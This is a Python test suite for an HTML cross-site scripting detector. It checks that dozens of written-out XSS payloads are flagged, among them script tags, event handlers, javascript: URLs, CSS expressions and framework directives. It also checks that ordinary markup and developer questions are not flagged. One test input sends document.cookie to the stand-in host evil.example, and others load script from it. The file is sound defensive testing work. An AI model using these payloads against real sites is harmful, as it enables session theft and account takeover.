"""Cross-site scripting by markup: what browsers run is found, what editors and people send is not."""

from __future__ import annotations

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from doorward.attacks.detectors.html import HtmlDetector
from doorward.attacks.evidence import Place, Value
from doorward.attacks.subject import Subject
from doorward.attacks.work import Work
from doorward.builders.rule_files import contents, rulebooks

DETECTOR = HtmlDetector(rulebooks(1)["html"])
PLENTY = 10**9
FILLER = "the quick brown fox jumps over a lazy dog and goes home " * 70
LEAST = 0.2


def subject(text: str) -> Subject:
    return Subject(text, Value(Place.QUERY, "q", text))


def found(text: str) -> dict[str, float]:
    """The rules that find something, with the weight of each."""
    weights: dict[str, float] = {}
    if DETECTOR.wants(subject(text)):
        for evidence in DETECTOR.examine(subject(text), Work(PLENTY)):
            assert 0 <= evidence.start <= evidence.end <= len(text)
            weights[evidence.rule] = max(evidence.weight, weights.get(evidence.rule, 0.0))
    return weights


def weight(text: str) -> float:
    return sum(found(text).values())


ELEMENTS = {
    "script": "<script>alert(1)</script>",
    "script in mixed case": "<ScRiPt>alert(1)</sCrIpT>",
    "script from elsewhere": "<script src=//evil.example></script>",
    "script after a slash": '<script/x="1">alert(1)</script>',
    "script with a prefix": '<s:script xmlns:s="http://www.w3.org/1999/xhtml">alert(1)</s:script>',
    "script that never ends": "<script>alert(1)",
    "script within another tag": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script of SVG": '<svg><script href="data:,alert(1)"/>',
    "NUL in a name": "<scr\0ipt>alert(1)</scr\0ipt>",
    "frame of code": "<iframe src=javascript:alert(1)>",
    "frame of elsewhere": "<iframe src=//evil.example>",
    "frame with a document": '<iframe srcdoc="<script>alert(1)</script>">',
    "object": "<object data=data:text/html;base64,PHNjcmlwdD4=>",
    "plug-in": "<embed src=x.swf>",
    "base": "<base href=//evil.example/>",
    "refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "style sheet of code": "<link rel=stylesheet href=javascript:alert(1)>",
    "import in a style": "<style>@import'//evil.example/x.css';</style>",
    "animated link": "<svg><a><animate attributeName=href values=javascript:alert(1) /></a>",
    "animated handler": "<set attributename=onmouseover to=alert(1)>",
    "inclusion": '<xi:include href="//evil.example/x"/>',
    "style sheet of XML": '<?xml-stylesheet href="javascript:alert(1)"?>',
}
HANDLERS = {
    "unquoted": "<img src=x onerror=alert(1)>",
    "quoted": '<body onload="alert(1)">',
    "in single quotes": "<x onclick='alert(1)'>",
    "in back-quotes": "<img src=`x` onerror=`alert(1)`>",
    "slash between": "<svg/onload=alert(1)>",
    "no space between": '<img src="x"onerror=alert(1)>',
    "form feed between": "<svg\x0conload=alert(1)>",
    "space around": "<svg onload\n=\talert(1)>",
    "no end": "<svg onload=alert(1)//",
    "any element": "<xss onfocus=alert(1) tabindex=1>",
    "any handler": "<p onsomethingnew=alert(1)>",
    "long name": "<input oncontentvisibilityautostatechange=alert(1)>",
    "in a closing tag": "</x onclick=alert(1)>",
    "bigger-than in a value": '<svg/x=">"/onload=confirm()//',
    "code without brackets": "<img src=x onerror=alert`1`>",
    "code without a call": "<img src=x onerror=location=name>",
    "code thrown": "<img src=x onerror=window.onerror=eval;throw'=alert\\x281\\x29'>",
    "unknown code": "<x onclick=steal()>",
    "within a title": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "within a comment": "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "nothing yet": "<x onclick=",
}
LOOSE = {
    "double quote": '" onmouseover=alert(1) x="',
    "single quote": "' autofocus onfocus='alert(1)",
    "no space": '"onclick="alert(1)',
    "slash": "x'/onfocus=alert(1)//",
    "no quote": "onauxclick=alert`1`",
    "unknown code": '" onwheel="steal(1)',
    "tags taken out": '"autof<x>ocus o<x>nfocus=alert<x>(1)//',
}
URLS = {
    "plain": "<a href=javascript:alert(1)>x",
    "mixed case": "<a href='jAvAsCrIpT:alert(1)'>x",
    "white space within": '<a href="java\tscr\nipt:alert(1)">x',
    "control characters before": '<a href="\x01 javascript:alert(1)">x',
    "any attribute": "<math xlink:href=javascript:alert(1)>",
    "unknown code": "<form action=javascript:steal()>",
    "button": "<button formaction=javascript:alert(1)>",
    "script of old": "<a href='vbscript:msgbox(1)'>x",
    "document": "<a href=data:text/html,<b>x>x",
    "picture that is a document": "<use href=data:image/svg+xml,x#y>",
}
STYLES = {
    "expression": '<b style="width:expression(alert(1))">',
    "with a comment": "<b style='width:expr/**/ession(alert(1))'>",
    "escaped": "<b style='width:\\65xpression(alert(1))'>",
    "URL": '<b style="background:url(javascript:alert(1))">',
    "binding": "<b style=-moz-binding:url(//x.example/a#b)>",
    "behaviour": "<style>b { behavior: url(x.htc) }</style>",
}
DIRECTIVES = {
    "Vue": "<x @click=alert(1)>",
    "AngularJS": "<x ng-init=\"constructor.constructor('alert(1)')()\">",
    "Alpine": '<x x-init="alert(1)">',
}


@pytest.mark.parametrize("name", ELEMENTS)
def test_elements_that_run_or_load_something_are_conclusive(name: str) -> None:
    """By their names, what they refer to, and what is in them."""
    assert weight(ELEMENTS[name]) >= 1


@pytest.mark.parametrize("name", HANDLERS)
def test_handlers_are_conclusive(name: str) -> None:
    """However the attribute is written, in whatever element, and whatever the event's name."""
    assert found(HANDLERS[name])["html.handler"] == 1


@pytest.mark.parametrize("name", LOOSE)
def test_handlers_for_the_tag_around_are_conclusive(name: str) -> None:
    """The value is put into a tag's attribute, and ends it."""
    assert found(LOOSE[name])["html.loose_handler"] == 1


@pytest.mark.parametrize("name", URLS)
def test_urls_that_are_code_or_documents_are_conclusive(name: str) -> None:
    """As browsers read them: without control characters and white space in the scheme."""
    assert max(found(URLS[name]).values()) == 1


@pytest.mark.parametrize("name", STYLES)
def test_styles_that_run_code_are_conclusive(name: str) -> None:
    """In the browsers that ever did."""
    assert max(found(STYLES[name]).values()) == 1


@pytest.mark.parametrize("name", DIRECTIVES)
def test_attributes_that_frameworks_run_are_conclusive(name: str) -> None:
    """Where what they are told to run is an attack's."""
    assert found(DIRECTIVES[name])["html.directive"] == 1


@pytest.mark.parametrize("text", ['"><b>x', "x'/><h1>y", '1" ><marquee>'], ids=range(3))
def test_tags_after_the_end_of_an_attribute_are_conclusive(text: str) -> None:
    """Whatever they are: the value was put into an attribute, and is not there any more."""
    assert found(text)["html.out_of_attribute"] == 1


@pytest.mark.parametrize("text", ["</title><p>", "x</textarea>", "</script>"], ids=range(3))
def test_ends_of_elements_without_their_beginning_are_evidence(text: str) -> None:
    """Of those whose content is no markup."""
    assert LEAST < found(text)["html.out_of_element"] < 1


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<script>location='//evil.example/'+document.cookie</script>",
        "<script src=//evil.example></script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=eval(name)>",
        "<a href=javascript:alert(1)>",
        "<iframe src=data:text/html,x>",
    ],
    ids=range(7),
)
def test_text_around_does_not_hide_an_explicit_attack(attack: str) -> None:
    """Before it, behind it, or both."""
    for text in (FILLER + attack, attack + FILLER, FILLER + attack + FILLER):
        assert weight(text) >= 1


RICH = {
    "paragraphs": '<p>Dear all,</p><p>see <a href="https://example.org/a?b=c">here</a>.</p><br/>',
    "emphasis": "<b>bold</b> <i>move</i> <em>x</em> <u>y</u><sub>2</sub>",
    "picture": '<img src="https://example.org/cat.png" alt="a cat" width="10">',
    "picture written out": '<img alt="x" src="data:image/png;base64,iVBORw0KGgo=">',
    "table": '<table border="1"><tr><td align="left">1</td><td>2</td></tr></table>',
    "code": "<pre><code>if (a &lt; b) { return c; }</code></pre>",
    "style attribute": '<div style="color:red; background: url(/a.png)">x</div>',
    "style element": "<style>body { margin: 0 }</style>",
    "drawing": '<svg viewBox="0 0 24 24"><path d="M12 2L2 7"/></svg>',
    "letter": "<html><head><title>Offer</title></head><body><h1>Offer</h1></body></html>",
    "form": '<form action="/login" method="post"><input name="user" type="text"></form>',
    "mail address": "Jane Doe <jane@example.org>",
    "comparison": "if a<b and c>d or x <y",
    "generics": "Map<String, List<Integer>> m = new HashMap<>();",
    "include": "#include <stdio.h>\nint main() { return 0; }",
    "heart": "I <3 you >_<",
    "declaration": '<?xml version="1.0"?><!DOCTYPE html><!-- x -->',
    "word that begins like a handler": "season=2&onboarding=done&once=1",
    "loop of Vue": '<li v-for="item in items" :key="item.id">{{ item }}</li>',
}


@pytest.mark.parametrize("name", RICH)
def test_plain_markup_is_no_evidence(name: str) -> None:
    """Editors of text send it, and so do people who write of markup."""
    assert weight(RICH[name]) < LEAST


QUESTIONS = {
    "script in words": "how do I escape <script> tags in Jinja?",
    "script of one's own": 'What is <script src="/static/app.js"></script> good for at the end of a page?',
    "script from a CDN": 'I load <script src="https://cdn.example.org/x.js"></script> but it is not found. Why?',
    "script in a fence": "Why is it null?\n```\n<script>\nvar b = document.getElementById(c);\n</script>\n```\nThanks",
    "handler": 'I set <button onclick="doThing()">Go</button> in my page but nothing happens when I click it',
    "handler that greets": "I wrote <button onclick=\"alert('Hello')\">Go</button> and nothing happens when I click it",
    "fallback picture": 'I use <img src="a.png" onerror="this.src=\'b.png\'"> for all of the pictures, is that good?',
    "fallback picture once": "Is <img onerror=\"this.onerror=null;this.src='b.png'\"> good for all of the pictures?",
    "handler without a tag": 'the attribute onclick="send()" of the form does not do what I want it to do',
    "link that does nothing": '<a href="javascript:void(0)">x</a>',
    "video": '<iframe width="560" height="315" src="https://video.example.org/embed/1" title="x"></iframe>',
    "markup that is whole": "<p class=\"x\"><b>y</b></p> and <a href='/z'><i>z</i></a>",
    "component": "<button onClick={() => setCount(count + 1)}>",
    "refresh": 'Is <meta http-equiv="refresh" content="5; url=/next"> still the way to go on to another page?',
}


@pytest.mark.parametrize("name", QUESTIONS)
def test_questions_about_markup_are_not_conclusive(name: str) -> None:
    """What honest pages have, in a text for people to read."""
    assert weight(QUESTIONS[name]) < 1


def test_a_crowd_of_handlers_is_conclusive_by_itself() -> None:
    """Nobody has to look at each of thousands: the work is bounded, and nothing hides behind them."""
    assert found("<x onaaa=b>" * 65)["html.crowd"] == 1
    assert found("onaaa=b " * 65)["html.crowd"] == 1
    assert "html.crowd" not in found("<x onaaa=b>" * 64)


def test_many_attributes_hide_no_handler() -> None:
    """Those that are not looked at as attributes are looked at as if there were no tag."""
    assert weight(f"<img {'a=1 ' * 200} onerror=alert(1)>") >= 1


HOSTILE = [
    "<", "<a ", "<a b=", '<a b="', '<a b=\'<a b="', "<script>", "<script ", "</script", "<x onaaa=", "onaaa=",
    '"onaaa=', "<style>", "<style>@import ", "<iframe src=x ", "<b>a</b>c", "a<b>c", "<!--", "<?import ", '">',
    "<a =", "= ", "<a\x00", "<a href=j:", "<a style=\\6", "<a/", "word <b> ", "<%", "' onaaa=alert", "<a b=`",
    "</title>",
]  # fmt: skip


class Counted(Work):
    """Counts, and does not stop."""

    def __init__(self) -> None:
        super().__init__(0)
        self.bound = PLENTY


@pytest.mark.parametrize("number", range(len(HOSTILE)))
def test_twice_the_text_costs_at_most_twice_the_work(number: int) -> None:
    """Also where it is made to be costly."""
    spent = []
    for size in (2_048, 4_096):
        text = HOSTILE[number] * (size // len(HOSTILE[number]))
        work = Counted()
        list(DETECTOR.examine(subject(text), work))
        spent.append(work.spent)
    assert spent[1] <= 2.2 * spent[0]
    assert spent[1] <= 500 * 4_096


EXAMPLES = [text for rule in contents()["html"]["rule"] for text in rule["match"]]


@given(st.text(max_size=20), st.sampled_from(EXAMPLES), st.text(max_size=20))
@example("x", '" onmouseover=alert(1) x="', "\0")
def test_what_is_found_is_wanted(before: str, attack: str, after: str) -> None:
    """The screen is one-sided: it sees an attack in whatever stands around it."""
    text = subject(before + attack + after)
    if any(evidence.weight > 0 for evidence in DETECTOR.examine(text, Work(PLENTY))):
        assert DETECTOR.wants(text)


@given(st.text(alphabet="<>/=\"'` \t\0abonx:;(1)!?-", max_size=80))
def test_whatever_comes_there_is_a_result(text: str) -> None:
    """No text makes it fail, and what it finds lies within the text."""
    assert all(0 < weight <= 1 for weight in found(text).values())
